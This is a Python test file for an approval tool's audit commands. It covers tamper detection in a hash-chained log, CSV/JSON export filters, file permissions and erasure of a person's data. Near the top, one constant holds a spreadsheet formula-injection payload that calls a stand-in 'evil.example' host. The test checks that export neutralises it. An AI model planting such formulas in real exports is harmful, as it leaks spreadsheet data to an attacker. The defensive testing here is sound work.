"""An auditor verifies, exports and lets somebody be forgotten, while Usher goes on."""

from __future__ import annotations

import csv
import io
import json
import stat
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from approvals.change import Event
from approvals.request import State
from store.book import SqlBook
from store.database import Database, parse_url
from tests.commands.conftest import Operator
from tests.store.people import ALICE, BRUNO, MARKETING, NOW, OLGA, approval, move, wish

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
SALES = replace(MARKETING, id="5a1e5", name="@Sales")


async def _three_requests(book: SqlBook) -> None:
    """1001 carried out with a hostile reason, 1002 of Bruno denied, 1003 pending."""
    submitted = Event("submitted", NOW, actor=ALICE, facts={"reason": FORMULA})
    request = await book.submit(wish("draft-1", reason=FORMULA), submitted, ())
    request = await book.apply(request, approval())
    added = Event("completed", NOW, facts={"graph_request_id": "graph-1"})
    await book.apply(request, replace(move(State.COMPLETED), event=added))
    other = replace(wish("draft-2", people=(BRUNO,), group=SALES), requester=BRUNO, approvers=())
    request = await book.submit(other, Event("submitted", NOW, actor=BRUNO), ())
    await book.apply(request, move(State.DENIED))
    await book.submit(wish("draft-3"), Event("submitted", NOW, actor=ALICE), ())


def _rows(exported: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported)))


async def test_an_honest_audit_is_whole(operator: Operator, book: SqlBook) -> None:
    await _three_requests(book)
    anchor = await book.anchor(NOW)
    assert anchor is not None

    said = await operator.types("audit", "verify", "--anchor", anchor.hash)

    assert "3 requests, 6 audit lines, 1 anchors" in said
    assert anchor.hash in said
    assert "The audit is whole." in said


async def test_a_broken_audit_ends_with_1_and_says_where(operator: Operator, book: SqlBook) -> None:
    await _three_requests(book)
    shell = Database(parse_url(operator.database_url))
    await shell.write(lambda conn: conn.execute(text("UPDATE audit SET what = 'denied' WHERE what = 'approved'")))
    await shell.close()

    said = await operator.types("audit", "verify", "--anchor", "f00d", code=1)

    assert "! Audit line 2 of request 1001 was changed after it was written." in said
    assert "! The anchor f00d is not in this database" in said
    assert "The audit is NOT whole: 2 findings." in said
    rows = _rows(await operator.reads("audit", "export"))
    assert {row["request"]: row["verified"] for row in rows} == {"1001": "no", "1002": "yes", "1003": "yes"}


async def test_the_export_holds_what_an_auditor_wants(operator: Operator, book: SqlBook) -> None:
    await _three_requests(book)

    rows = _rows(await operator.reads("audit", "export"))

    assert len(rows) == 6
    approved, completed = rows[1], rows[2]
    assert (approved["request"], approved["seq"], approved["what"]) == ("1001", "2", "approved")
    assert approved["at"] == "2026-11-21T08:00:00.000000+00:00"
    assert (approved["actor_id"], approved["actor_name"]) == (OLGA.id, OLGA.name)
    assert (approved["group_id"], approved["group_name"], approved["group_kind"]) == ("6a8c1", "Marketing", "m365")
    assert approved["subjects"] == "Alice Martin <a11ce>"
    assert json.loads(approved["facts"]) == {"owners": [OLGA.id, BRUNO.id]}
    assert len(approved["hash"]) == 64
    assert approved["verified"] == "yes"
    assert completed["graph_request_id"] == "graph-1"


async def test_no_cell_is_a_formula(operator: Operator, book: SqlBook) -> None:
    await _three_requests(book)

    rows = _rows(await operator.reads("audit", "export"))

    assert rows[0]["reason"] == "'" + FORMULA
    assert rows[3]["group_name"] == "'@Sales"
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_json_is_one_array_and_jsonl_an_object_on_each_line(operator: Operator, book: SqlBook) -> None:
    assert json.loads(await operator.reads("audit", "export", "--format", "json")) == []
    await _three_requests(book)

    array: list[dict[str, Any]] = json.loads(await operator.reads("audit", "export", "--format", "json"))
    lines = await operator.reads("audit", "export", "--format", "jsonl")

    assert array == [json.loads(line) for line in lines.splitlines()]
    assert array[0]["reason"] == FORMULA
    assert array[1]["facts"] == {"owners": [OLGA.id, BRUNO.id]}
    assert array[1]["verified"] is True


@pytest.mark.parametrize(
    ("words", "requests"),
    [
        (("--group", "Marketing"), {"1001", "1003"}),
        (("--group", "5a1e5"), {"1002"}),
        (("--person", BRUNO.id), {"1001", "1002", "1003"}),  # an approver of Marketing
        (("--person", "Alice Martin"), {"1001", "1003"}),
        (("--request", "1002"), {"1002"}),
        (("--since", "2026-11-21", "--until", "2026-11-21"), {"1001", "1002", "1003"}),
        (("--since", "2026-11-21T09:00+01:00", "--group", "@Sales"), {"1002"}),
        (("--since", "2026-11-22"), set()),
        (("--until", "2026-11-20"), set()),
    ],
)
async def test_only_what_was_asked_for_is_exported(
    operator: Operator, book: SqlBook, words: tuple[str, ...], requests: set[str]
) -> None:
    await _three_requests(book)

    assert {row["request"] for row in _rows(await operator.reads("audit", "export", *words))} == requests


async def test_a_day_that_is_none_is_told(operator: Operator) -> None:
    assert "yesterday" in await operator.types("audit", "export", "--since", "yesterday", code=2)


async def test_many_pages_are_one_export(operator: Operator, book: SqlBook, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("store.export.PAGE", 2)
    await _three_requests(book)

    assert len(_rows(await operator.reads("audit", "export"))) == 6


def _half_written(folder: Path) -> list[Path]:
    return [*folder.glob(".audit*")]


async def test_a_file_is_there_when_it_is_whole_and_for_its_owner_alone(
    operator: Operator, book: SqlBook, tmp_path: Path
) -> None:
    await _three_requests(book)
    file = tmp_path / "audit.csv"

    said = await operator.types("audit", "export", "-o", str(file))

    assert "6 audit lines exported." in said
    assert file.read_bytes().startswith(b"\xef\xbb\xbfrequest,seq,at")  # the mark by which Excel knows UTF-8
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert _half_written(tmp_path) == []
    assert "cannot be written" in await operator.types("audit", "export", "-o", str(tmp_path / "no/audit.csv"), code=1)


async def test_a_person_is_forgotten_only_on_a_yes_and_the_audit_verifies(operator: Operator, book: SqlBook) -> None:
    await _three_requests(book)
    assert "add --yes" in await operator.types("audit", "erase", BRUNO.id, code=1)

    said = await operator.types("audit", "erase", BRUNO.id, "--yes", code=1)
    assert "takes part in requests that are still open (1003)" in said
    await operator.types("request", "cancel", "1003", "--reason", "somebody must be forgotten")

    assert "Erased: text in 3 requests" in await operator.types("audit", "erase", BRUNO.id, "--yes")
    assert "Bruno" not in await operator.reads("audit", "export")
    await operator.types("audit", "verify")
    assert f"Nothing of {BRUNO.id} is kept." in await operator.types("audit", "erase", BRUNO.id, "--yes")
